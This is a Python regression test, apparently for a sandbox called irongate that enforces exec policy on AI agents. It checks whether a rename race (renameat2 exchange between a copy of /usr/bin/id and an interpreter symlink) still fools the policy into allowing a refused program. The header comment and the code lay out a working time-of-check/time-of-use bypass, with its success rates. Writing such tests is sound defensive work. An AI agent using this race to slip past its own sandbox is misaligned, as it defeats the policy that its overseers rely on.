# Attack (review 6, open): events::is_python(exe) classes an exec by stat()ing the resolved program's
# real path *again*, following symlinks (std::fs::metadata), right after paths::resolve produced it:
# two looks at a name the agent may change in between. At the hook layer (the IPC server's thread,
# which runs beside the notify loop that performs the agent's renames) a separate process keeps
# exchanging (renameat2 RENAME_EXCHANGE, allowed: /tmp/** may change) /tmp/r6ps/p, a copy of
# /usr/bin/id, with /tmp/r6ps/alt, a symlink to the run's interpreter (irongate's own binary). When
# resolve sees the copy and the stat the symlink, os.execv("/tmp/r6ps/p") is judged a
# "python_child" of executable /tmp/r6ps/p, which bypass_trusted's python-children rule allows; that
# decision then explains the kernel's exec of the same real path when the copy is back in place, and
# the kernel runs the copy of id, which the policy refuses by default. About 1 attempt in 100 is
# misjudged, 1 in 800 ran id on the 3 Dec build. Output: how many children ran id (`id -u` prints
# 0; irongate's binary prints a usage error).
# irongate: {"args": ["--profile", "trusted", "--policy", "{ROOT}/integration/policies/bypass_trusted.json"], "exit": 0, "timeout": 200, "stdout": ["id_ran=0 "]}
# no-event: {"decision": "allow", "action": {"type": "process", "process_class": "python_child", "executable": "/tmp/r6ps/p"}}
import ctypes, os, shutil, sys, time
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "lib"))
from child_output import output_until  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)
N = int(sys.argv[1]) if len(sys.argv) > 1 else 1500
D = "/tmp/r6ps"
os.makedirs(D, exist_ok=True)
for n in ("p", "alt"):
    try:
        os.unlink(f"{D}/{n}")
    except FileNotFoundError:
        pass
shutil.copyfile("/usr/bin/id", f"{D}/p")
os.chmod(f"{D}/p", 0o755)
os.symlink(os.path.realpath(sys.executable), f"{D}/alt")
sw = os.fork()
if sw == 0:
    a, b = f"{D}/p".encode(), f"{D}/alt".encode()
    end = time.time() + 90
    while time.time() < end:
        libc.renameat2(-100, a, -100, b, 2)
    os._exit(0)
ran = py = refused = other = 0
samples = set()
t0 = time.time()
for i in range(N):
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        null = os.open("/dev/null", os.O_RDONLY)
        os.dup2(null, 0)
        os.dup2(w, 1)
        os.dup2(w, 2)
        try:
            os.execv(f"{D}/p", ["id", "-u"])
        except OSError as e:
            os.write(1, f"err {e.errno}\n".encode())
        os._exit(0)
    os.close(w)
    out = output_until(r, pid, 10, first_line=False)
    if out.strip().isdigit():
        ran += 1
    elif not out.startswith(b"err "):
        py += 1
    elif out.startswith(b"err"):
        refused += 1
    else:
        other += 1
    if not out.strip().isdigit() and len(samples) < 3:
        samples.add(out[:40])
    if ran or time.time() - t0 > 100:
        break
os.kill(sw, 9)
os.waitpid(sw, 0)
print(f"id_ran={ran} attempts={i + 1} interpreter={py} refused={refused} {sorted(samples)}")
